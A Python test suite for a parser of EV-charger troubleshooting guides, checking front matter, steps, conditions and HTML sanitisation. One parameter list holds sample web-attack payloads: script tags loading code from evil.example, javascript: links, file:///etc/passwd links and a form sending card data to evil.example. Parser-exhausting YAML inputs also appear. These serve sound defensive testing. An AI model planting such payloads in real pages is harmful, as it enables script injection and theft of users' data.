"""Reading guides: text of authors becomes safe steps, or a finding that names the line; conditions hold where they should."""

from __future__ import annotations

import re
import time
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chargeside.check.guides import check_content
from chargeside.findings import Findings
from chargeside.load.guide import clean
from chargeside.load.source import parse_yaml
from chargeside.model.condition import ALWAYS, ConditionError, parse_condition
from chargeside.model.facts import FACTS, PAYMENTS, Fact, Facts, FactValue, Origin
from chargeside.model.network import Content
from chargeside.model.problem import Guide, Problem, Step
from support import GUIDE, codes_of, found, line_of, read_guide, replaced, shared_content

HERE = Origin("feed", "test")


def facts(**values: FactValue) -> Facts:
    """Facts by name; `__` stands for the dot of `payment.app`."""
    return Facts({name.replace("__", "."): Fact(value, HERE) for name, value in values.items()})


# ── Reading ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_guide_is_read_whole() -> None:
    read, findings = read_guide(GUIDE)
    assert read is not None
    assert len(findings) == 0
    guide = read.guide
    assert (guide.title, guide.symptoms) == ("The light is red", ("Red light",))
    assert guide.intro_html == "The charger waits for you."
    assert [step.id for step in guide.steps] == ["unplug", "plug-in", "tap"]
    assert [step.pictogram for step in guide.steps] == ["unplug", "plug-in", None]
    assert guide.steps[0].html == "<strong>Unplug</strong> and wait."
    assert guide.steps[0].text == "Unplug and wait."
    assert str(guide.steps[1].when) == "start_order=plug_first"
    assert guide.call_html == "<strong>Call us if</strong> it stays red."
    assert [step.line for step in guide.steps] == [line_of(GUIDE, f"{n}. **") for n in (1, 2, 3)]


def test_blank_lines_between_steps_change_nothing() -> None:
    loose = replaced(replaced(GUIDE, "\n2. **Plug", "\n\n2. **Plug"), "\n3. **Tap", "\n\n3. **Tap")
    tight_read, _ = read_guide(GUIDE)
    loose_read, findings = read_guide(loose)
    assert tight_read is not None
    assert loose_read is not None
    assert len(findings) == 0

    def seen(steps: tuple[Step, ...]) -> list[tuple[str, str, str | None, str]]:
        return [(step.id, step.html, step.pictogram, str(step.when)) for step in steps]

    assert seen(loose_read.guide.steps) == seen(tight_read.guide.steps)
    assert loose_read.guide.steps[2].line == line_of(loose, "3. **Tap**")


@pytest.mark.parametrize(
    "change", [lambda t: t.replace("\n", "\r\n"), lambda t: "\ufeff" + t, lambda t: t + "\n\n"]
)
def test_line_ends_marks_and_blank_ends_change_nothing(change, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from chargeside.load.source import read_text

    path = tmp_path / "en.md"
    path.write_bytes(change(GUIDE).encode())
    findings = Findings()
    text = read_text(path, "x/en.md", findings)
    assert text is not None
    changed, more = read_guide(text)
    plain, _ = read_guide(GUIDE)
    assert len(findings) == len(more) == 0
    assert changed is not None
    assert plain is not None
    assert changed.guide == plain.guide


def test_a_number_in_the_intro_does_not_shift_the_lines_of_steps() -> None:
    text = replaced(
        GUIDE, "The charger waits for you.", "It waits.\n30. is not a step here, and neither is\n7. this one."
    )
    read, _ = read_guide(text)
    assert read is not None
    assert [step.line for step in read.guide.steps] == [line_of(text, f"{n}. **") for n in (1, 2, 3)]


def test_an_empty_body_takes_nothing_from_the_guide_before() -> None:
    assert read_guide(GUIDE)[0] is not None
    front_matter = GUIDE[: GUIDE.index("The charger waits")]
    read, findings = read_guide(front_matter)
    assert read is None
    assert codes_of(findings) == ["G502"]


def test_a_translation_carries_no_facts() -> None:
    german = "---\ntitle: Rot\n---\n\n1. **Ziehen.**\n   {: #unplug }\n"
    read, findings = read_guide(german, "de", "problems/x/de.md")
    assert read is not None
    assert read.matter is None
    assert len(findings) == 0
    read, findings = read_guide(
        replaced(german, "title: Rot", "title: Rot\noutcome: fix"), "de", "problems/x/de.md"
    )
    assert read is None
    assert found(findings, "F106").line == 3


BAD_GUIDES = [
    # old, new, rule, words on the line named, words of the mend
    pytest.param("title: The", "titel: The", "F106", "titel:", '"title"', id="unknown key"),
    pytest.param("outcome: fix\n", "", "G501", "title:", "add outcome", id="missing key"),
    pytest.param("outcome: fix", "outcome: fix\noutcome: call", "F105", "outcome: call", "one of the two", id="key twice"),
    pytest.param("outcome: fix", "outcome: fixx", "G501", "fixx", '"fix"', id="unknown outcome"),
    pytest.param("category: starting", "category: startng", "G501", "startng", '"starting"', id="unknown category"),
    pytest.param("symptoms: [Red light]", "symptoms: Red light", "G501", "symptoms:", "list", id="text for a list"),
    pytest.param("title: The light", "title: Error: the light", "F104", "title:", "quotes", id="colon in a text"),
    pytest.param("symptoms: [Red light]", "symptoms:\n\t- Red", "F104", "\t- Red", "spaces", id="tab"),
    pytest.param("title: The", "title: &a The", "F107", "title:", "quotes", id="anchor"),
    pytest.param("title: The light is red", "title: *a", "F107", "title:", "quotes", id="alias"),
    pytest.param("title: The", "title: !!python/object The", "F107", "title:", "quotes", id="tag"),
    pytest.param("review: 2027-11-01", "review: 2027-02-30", "G501", "review:", "calendar", id="no such day"),
    pytest.param("review: 2027-11-01", "review: soon", "G501", "review:", "2027-11-01", id="no date"),
    pytest.param("review:", "codes: [Error 5]\nreview:", "G501", "codes:", "ocpp16:", id="code without a system"),
    pytest.param("pictogram=unplug", "pictogram=unplugg", "G504", "unplugg", '"unplug"', id="unknown pictogram"),
    pytest.param("start_order=", "start_oder=", "G505", "start_oder", '"start_order"', id="unknown fact"),
    pytest.param("=plug_first", "=plug_frist", "G505", "plug_frist", '"plug_first"', id="unknown value"),
    pytest.param("start_order=plug_first", "current=dc", "G505", "current=dc", '"DC"', id="value in small letters"),
    pytest.param("start_order=plug_first", "connectors=css2", "G505", "css2", '"ccs2"', id="unknown connector"),
    pytest.param("start_order=plug_first", "min_power_kw=50", "G505", "min_power_kw", "min_power_kw>=50", id="wrong comparison"),
    pytest.param("start_order=plug_first", "Payment=app", "G505", "Payment", '"payment"', id="fact in capitals"),
    pytest.param("start_order=plug_first", "power_kw=much", "G505", "much", "power_kw=50", id="no number"),
    pytest.param("start_order=plug_first", "country=germany", "G505", "germany", "country=FR", id="no country code"),
    pytest.param("\n   {: #tap }", " {: #tap }", "G503", "{: #tap }", "a line of their own", id="attributes behind the text"),
    pytest.param("{: #tap }", "{: #tap pictogramm=tap }", "G503", "pictogramm", '"pictogram"', id="unknown attribute"),
    pytest.param("   {: #tap }", "", "G503", "3. **Tap**", "#short-name", id="step without id"),
    pytest.param("{: #tap }", "{: #Tap }", "G503", "#Tap", "small letters", id="id in capitals"),
    pytest.param("{: #tap }", "{: #unplug }", "G507", "{: #unplug }", "of its own", id="id twice"),
    pytest.param("{: #call }", '{: #call when="payment=app" }', "G503", "**Call us if**", "leave it out", id="call with a condition"),
    pytest.param("{: #call }", "{: #cal }", "G501", "**Call us if**", "#call", id="call misspelt"),
    pytest.param("**Call us", "**Call us if** not.\n{: #call }\n\n**Call us", "G507", "it stays red", "into one", id="call twice"),
    pytest.param("The charger waits", "# The charger waits", "G501", "# The charger", "sentences", id="heading"),
    pytest.param("The charger waits", "\x07The charger waits", "F104", "The charger", "delete it", id="control character"),
    pytest.param("title: The light is red", 'title: "\\u0000"', "F104", "title:", "delete it", id="escaped control character"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "code", "at", "mend"), BAD_GUIDES)
def test_a_mistake_in_a_guide_is_named(old: str, new: str, code: str, at: str, mend: str) -> None:
    text = replaced(GUIDE, old, new)
    read, findings = read_guide(text)
    finding = found(findings, code)
    assert read is None
    assert finding.path == "problems/x/en.md"
    assert finding.line == line_of(text, at)
    assert mend in finding.mend


@pytest.mark.parametrize("text", ["", "no front matter", "---\ntitle: x\n", "---\n---\n\n1. a\n"])
def test_a_guide_without_front_matter_is_named(text: str) -> None:
    read, findings = read_guide(text)
    assert read is None
    assert found(findings, "G501").line == 1


def test_a_guide_without_steps_is_named() -> None:
    text = GUIDE[: GUIDE.index("1. **")]
    read, findings = read_guide(text)
    assert read is None
    finding = found(findings, "G502")
    assert finding.line == line_of(text, "The charger waits")
    assert "1. 2. 3." in finding.mend


def test_all_mistakes_are_named_at_once() -> None:
    text = replaced(
        replaced(replaced(GUIDE, "outcome: fix", "outcom: fix"), "=unplug ", "=unplugg "), "=plug_first", "=x"
    )
    _, findings = read_guide(text)
    assert {"F106", "G501", "G504", "G505"} <= set(codes_of(findings))


HOSTILE = [
    pytest.param("<script>alert(1)</script>", "G508", "<script>", id="script"),
    pytest.param(
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "G508", "<script>", id="script from elsewhere"
    ),
    pytest.param('<b onclick="alert(1)">now</b>', "G508", '"onclick"', id="event handler"),
    pytest.param('<b style="position:fixed">now</b>', "G508", '"style"', id="style attribute"),
    pytest.param("<style>body{display:none}</style>", "G508", "<style>", id="style element"),
    pytest.param("[now](javascript:alert(1))", "G509", "javascript:", id="javascript link"),
    pytest.param(
        '<a href="java&#10;script:alert(1)">now</a>', "G509", "link", id="javascript link in disguise"
    ),
    pytest.param("[now](file:///etc/passwd)", "G509", "file:", id="file link"),
    pytest.param("[now](http://grid.example/)", "G509", "http:", id="link without TLS"),
    pytest.param("[now](../../secret)", "G509", "../../secret", id="relative link"),
    pytest.param("![now](file:///etc/passwd)", "G509", "file:///etc/passwd", id="file image"),
    pytest.param("![now](https://evil.example/pixel.gif)", "G509", "evil.example", id="image from elsewhere"),
    pytest.param('<iframe src="https://evil.example/"></iframe>', "G508", "<iframe>", id="frame"),
    pytest.param("<svg><script>alert(1)</script></svg>", "G508", "<svg>", id="svg"),
    pytest.param(
        '<form action="https://evil.example/"><input name=card></form>', "G508", "<form>", id="form"
    ),
    pytest.param('<p onclick="alert(1)">now</p>', "G508", '"onclick"', id="paragraph with a handler"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "G508", "<meta>", id="redirect"
    ),
]


@pytest.mark.parametrize("place", ["your card.", "The charger waits for you.", "it stays red."])
@pytest.mark.parametrize(("html", "code", "named"), HOSTILE)
def test_hostile_html_is_removed_and_reported(html: str, code: str, named: str, place: str) -> None:
    text = replaced(GUIDE, place, f"{place} {html}")
    read, findings = read_guide(text)
    assert read is not None, "the guide stays usable without it"
    reports = [finding for finding in findings if finding.code == code and named in finding.message]
    assert reports, [str(finding) for finding in findings]
    assert reports[0].line == line_of(text, html)
    kept = " ".join((read.guide.intro_html, read.guide.call_html, *(step.html for step in read.guide.steps)))
    assert_safe(kept)
    assert not re.search(r"alert\(|display:none", kept), "nor is a script printed as text"


@pytest.mark.parametrize(("html", "code", "named"), HOSTILE)
def test_hostile_html_in_a_paragraph_of_its_own_is_removed_and_reported(
    html: str, code: str, named: str
) -> None:
    text = replaced(GUIDE, "The charger waits for you.", f"The charger waits for you.\n\n{html}")
    read, findings = read_guide(text)
    assert any(finding.code == code and named in finding.message for finding in findings)
    assert read is not None
    assert_safe(read.guide.intro_html)


def test_what_is_allowed_stays() -> None:
    wanted = 'Press <kbd>OK</kbd>, see <a href="https://grid.example/a?b=1&amp;c=2" rel="noopener">here</a> or <a href="tel:+49800" rel="noopener">call</a>.'
    text = replaced(
        GUIDE,
        "The charger waits for you.",
        "Press <kbd>OK</kbd>, see [here](https://grid.example/a?b=1&c=2) or [call](tel:+49800).",
    )
    read, findings = read_guide(text)
    assert read is not None
    assert len(findings) == 0
    assert read.guide.intro_html == wanted


def test_a_lone_less_than_sign_is_text() -> None:
    read, findings = read_guide(replaced(GUIDE, "The charger waits", "Below < 50 kW & more > 3 it waits"))
    assert read is not None
    assert len(findings) == 0
    assert read.guide.intro_html.startswith("Below &lt; 50 kW &amp; more &gt; 3")


# ── Never raises, never lets through ─────────────────────────────────────────────────────────────────────────────────

TAGS = {"a", "abbr", "b", "br", "code", "em", "i", "kbd", "strong", "sub", "sup"}
ATTRIBUTES = {"a": {"href", "rel"}, "abbr": {"title"}}
SCHEMES = {"https", "mailto", "tel"}


class _Reader(HTMLParser):
    """Reads what stands in HTML the way a browser would."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and urlsplit((value or "").strip()).scheme not in SCHEMES:
                self.wrong.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def assert_safe(html: str) -> None:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.wrong == []


SOUP = st.lists(
    st.sampled_from(
        ["<", ">", "<!--", "-->", "<![CDATA[", "]]>", "<?", "</", "/>", "<script>", "</script>", "<style>", "<svg>", "<math>", "<template>", "<noscript>", "<title>", "<textarea>", "<p>", "</p>", "<a>", "<img", "<b", "<a", "<abbr", "<iframe", "href=", "src=", "onclick=", "style=", "title=", "javascript:", "file:", "data:", "https:", "//x.y", "mailto:", "&#106;", "&lt;", "&amp;", "&#x6a;", "&colon;", "{:", "}", "#id", "when=", "pictogram=", "[", "](", ")", "![", "`", "```", "**", "_", "\\", '"', "'", "=", "1.", "2.", "-", ">", "#", "---", "*a", "&a", "!!x", "<x@y.z>", "<https://a.b>", "[r]:", "\u202e", "\x02", "\x03"]
    )
    | st.sampled_from([" ", "\n", "\n\n", "\n   ", "\n    ", "\t"])
    | st.text(max_size=8),
    max_size=40,
).map("".join)  # fmt: skip


@given(st.text(max_size=300) | SOUP)
@settings(max_examples=80)
def test_arbitrary_text_never_raises(text: str) -> None:
    read, findings = read_guide(text)
    assert (read is None) == any(finding.code not in ("G508", "G509") for finding in findings.errors)


@given(
    SOUP,
    st.sampled_from(
        ["The charger waits for you.", "your card.", "{: #tap }", "it stays red.", "[Red light]", "title: "]
    ),
)
@settings(max_examples=120)
def test_soup_anywhere_in_a_guide_never_raises_and_comes_out_clean(soup: str, place: str) -> None:
    read, findings = read_guide(GUIDE.replace(place, place + soup, 1))
    assert (read is None) == any(finding.code not in ("G508", "G509") for finding in findings.errors)
    if read is not None:
        assert_safe(read.guide.intro_html)
        assert_safe(read.guide.call_html)
        for step in read.guide.steps:
            assert_safe(step.html)
            assert "{:" not in step.text


@given(SOUP | st.text(max_size=200))
@settings(max_examples=150)
def test_cleaned_html_is_safe_and_stays_as_it_is(html: str) -> None:
    once = clean(html)
    assert_safe(once)
    assert clean(once) == once


YAML_SOUP = st.lists(
    st.sampled_from(
        [
            "a:",
            "b:",
            "-",
            "[",
            "]",
            "{",
            "}",
            ",",
            "&",
            "*",
            "!",
            "!!",
            "?",
            ":",
            "|",
            ">",
            "'",
            '"',
            "#",
            "%",
            "@",
            "`",
            "---",
            "...",
            "~",
            "null",
            "true",
            "1",
            "-1.5",
            "1e9",
            "<<:",
            "99999999999999999999",
        ]
    )
    | st.sampled_from(
        [" ", "  ", "\n", "\n  ", "\n    ", "\t", "\r", "\x00", "\x85", "\u2028", "\ufeff", "\ud7ff"]
    )
    | st.text(max_size=6),
    max_size=40,
).map("".join)


@given(st.text(max_size=200) | YAML_SOUP)
@settings(max_examples=150)
def test_arbitrary_yaml_never_raises(text: str) -> None:
    findings = Findings()
    doc = parse_yaml(text, "x.yml", findings)
    assert (doc is None) == bool(findings.errors)
    for finding in findings:
        assert finding.line is None or 1 <= finding.line <= len(text.splitlines()) + 1


@given(
    st.text(max_size=80)
    | st.lists(
        st.sampled_from(
            [*FACTS, "min_power_kw", "=", ">=", "|", " and ", " ", "unknown", "50", "ccs2", "DC"]
        ),
        max_size=9,
    ).map("".join)
)
@settings(max_examples=150)
def test_a_condition_is_read_or_refused_in_words(text: str) -> None:
    with suppress(ConditionError):
        condition = parse_condition(text, ("ccs2", "type2"))
        assert parse_condition(str(condition), ("ccs2", "type2")) == condition
        assert condition.holds(facts(power_kw=50.0, connectors=("ccs2",))) in (True, False)


@pytest.mark.parametrize(
    "text",
    [
        "a: " + "9" * 5000,
        "a: " + "[" * 5000,
        "{a: " * 5000,
        "- " * 3000 + "x",
        "&a [" + "*a, " * 100 + "]",
    ],
    ids=["a number of 5,000 digits", "brackets", "braces", "lists in lists", "aliases"],
)
def test_yaml_that_would_explode_is_refused_or_text(text: str) -> None:
    findings = Findings()
    doc = parse_yaml(text, "x.yml", findings)
    assert (doc is None and bool(findings.errors)) or (doc is not None and isinstance(doc.data["a"], str))


@pytest.mark.parametrize(
    "piece", ["> ", "1. ", "[", "![", "<", "<b ", "<![CDATA[", "*", "`", "_a", "&#", "\n    1. a"]
)
def test_a_guide_of_nothing_but_marks_is_read_in_no_time(piece: str) -> None:
    text = replaced(GUIDE, "The charger waits for you.", piece * (6000 // len(piece)))
    started = time.process_time()
    read, findings = read_guide(text)
    assert (read is None) == any(finding.code not in ("G508", "G509") for finding in findings.errors)
    assert time.process_time() - started < 2  # without a limit, some of these take half a minute


def test_a_guide_that_the_parser_gives_up_on_does_not_spoil_the_next() -> None:
    text = replaced(GUIDE, "The charger waits for you.", "> " * 4000 + "x")
    assert found(read_guide(text)[1], "G501").line == line_of(text, "> > >" + " >" * 3997 + " x")
    assert read_guide(GUIDE)[0] is not None


# ── Conditions ───────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "holds", "not_holds"),
    [
        ("start_order=plug_first", facts(start_order="plug_first"), facts(start_order="auth_first")),
        ("start_order=plug_first|any", facts(start_order="any"), facts()),
        ("start_order=unknown", facts(start_order="unknown"), facts(start_order="any")),
        ("start_order=unknown|any", facts(), facts(start_order="auth_first")),
        ("connectors=ccs2|chademo", facts(connectors=("type2", "chademo")), facts(connectors=("type2",))),
        ("connectors=unknown", facts(), facts(connectors=("type2",))),
        ("current=DC", facts(current=("AC", "DC")), facts(current=("AC",))),
        ("payment=contactless", facts(payment__contactless="yes"), facts(payment__contactless="no")),
        ("payment=unknown", facts(payment__cash="no"), facts(payment__app="yes")),
        ("payment=unknown", facts(), facts(**{f"payment__{way}": "no" for way in PAYMENTS})),
        ("min_power_kw>=50", facts(power_kw=50.0), facts(power_kw=49.9)),
        ("min_power_kw>=0", facts(power_kw=3.7), facts()),
        ("power_kw=22.0", facts(power_kw=22.0), facts(power_kw=22.1)),
        ("power_kw=unknown", facts(), facts(power_kw=22.0)),
        ("display=no", facts(display="no"), facts()),
        ("country=FR|BE", facts(country="BE"), facts(country="DE")),
        ("hardware=Alpha 50", facts(hardware="Alpha 50"), facts(hardware="Alpha 5")),
        ("current=DC and payment=app", facts(current=("DC",), payment__app="yes"), facts(current=("DC",))),
    ],
)
def test_a_condition_holds_where_it_should(text: str, holds: Facts, not_holds: Facts) -> None:
    condition = parse_condition(text)
    assert condition.holds(holds)
    assert not condition.holds(not_holds)


VALUES: dict[str, st.SearchStrategy[FactValue]] = {
    "connectors": st.lists(st.sampled_from(["ccs2", "type2"]), min_size=1, unique=True).map(tuple),
    "current": st.lists(st.sampled_from(["AC", "DC"]), min_size=1, unique=True).map(tuple),
    "format": st.just(("cable",)),
    "start_order": st.sampled_from(["plug_first", "auth_first", "any", "unknown"]),
    "power_kw": st.sampled_from([3.7, 22.0, 150.0]),
    "display": st.sampled_from(["yes", "no", "unknown"]),
    "hardware": st.sampled_from(["Alpha", "unknown"]),
    "country": st.just("DE"),
    **{f"payment.{way}": st.sampled_from(["yes", "no", "unknown"]) for way in PAYMENTS},
}
FACTS_OF_ANY = st.fixed_dictionaries({}, optional=VALUES).map(
    lambda v: Facts({n: Fact(x, HERE) for n, x in v.items()})
)


@given(FACTS_OF_ANY, st.sampled_from([name for name in FACTS if name != "payment"]))
@settings(max_examples=100)
def test_unknown_matches_only_unknown(station: Facts, name: str) -> None:
    known = dict(station.values).get(name) is not None
    assert parse_condition(f"{name}=unknown").holds(station) is not known
    for value in {
        "power_kw": ("22",),
        "country": ("DE",),
        "hardware": ("Alpha",),
        "connectors": ("ccs2",),
    }.get(name) or FACTS[name].values:
        if parse_condition(f"{name}={value}").holds(station):
            assert known


@given(FACTS_OF_ANY)
@settings(max_examples=100)
def test_a_way_to_pay_matches_only_yes(station: Facts) -> None:
    told = dict(station.values)
    for way in PAYMENTS:
        assert parse_condition(f"payment={way}").holds(station) is (told.get(f"payment.{way}") == "yes")
    if parse_condition("payment=unknown").holds(station):
        assert "yes" not in [told.get(f"payment.{way}") for way in PAYMENTS]


# ── What each driver would see ───────────────────────────────────────────────────────────────────────────────────────


def _problem(*whens: str, words: int = 3) -> Content:
    """Content of one problem whose steps have these conditions; "" is none."""
    text = " ".join(["word"] * words)
    steps = tuple(
        Step(f"s{n}", text, text, None, parse_condition(when) if when else ALWAYS, n)
        for n, when in enumerate(whens, 1)
    )
    guide = Guide(
        lang="en",
        title="T",
        short="T",
        symptoms=(),
        intro_html="Intro",
        steps=steps,
        call_html="Call",
        path="p/en.md",
        line=2,
    )
    problem = Problem(
        slug="p", category="starting", outcome="fix", applies_to=ALWAYS, codes=(), next="fixed", question=None, answers=(),
        weight=0, review="2027-01-01", sources=("A test",), needs_review=None, guides=(guide,), path="p/en.md",
    )  # fmt: skip
    return Content({"p": problem}, {})


def _found_in(content: Content, today: str = "2026-01-01") -> Findings:
    findings = Findings()
    check_content(content, today, findings)
    return findings


def test_seven_steps_that_no_driver_sees_together_are_fine() -> None:
    exclusive = ["start_order=plug_first", "start_order=auth_first", "start_order=any|unknown"]
    assert codes_of(_found_in(_problem("", "", "", "", "", *exclusive))) == []


def test_seven_steps_that_one_driver_sees_are_named() -> None:
    together = ["connectors=ccs2", "connectors=type2"]  # a cabinet may have both
    finding = found(_found_in(_problem("", "", "", "", "", *together)), "G510")
    assert (finding.path, finding.line) == ("p/en.md", 7)
    assert "ccs2" in finding.message
    assert "type2" in finding.message


@pytest.mark.parametrize(
    ("when", "rest"),
    [
        ("start_order=plug_first", "start_order=auth_first|any|unknown"),
        ("display=yes", "display=no|unknown"),
        ("current=DC", "current=AC|unknown"),
        ("min_power_kw>=0", "power_kw=unknown"),
    ],
)
def test_a_driver_who_would_see_too_little_is_named(when: str, rest: str) -> None:
    finding = found(_found_in(_problem("", when)), "G511")
    assert (finding.path, finding.line) == ("p/en.md", 2)
    assert codes_of(_found_in(_problem("", when, rest))) == []


@pytest.mark.parametrize(
    "fact", ["connectors=ccs2|unknown", "payment=app|unknown", "hardware=Alpha|unknown", "country=DE|unknown"]
)
def test_a_value_that_the_guide_does_not_ask_for_is_walked_too(fact: str) -> None:
    assert "G511" in codes_of(_found_in(_problem("", fact)))


def test_a_long_guide_is_named() -> None:
    assert "G512" in codes_of(_found_in(_problem("", "", "", words=60)))


def test_a_review_date_that_has_passed_is_named() -> None:
    assert found(_found_in(_problem("", ""), "2027-01-02"), "G513").severity == "warning"
    assert codes_of(_found_in(_problem("", ""), "2027-01-01")) == []


def test_the_packaged_guides_show_every_driver_two_to_six_steps() -> None:
    assert {"G510", "G511", "G512"} & set(codes_of(_found_in(shared_content()))) == set()
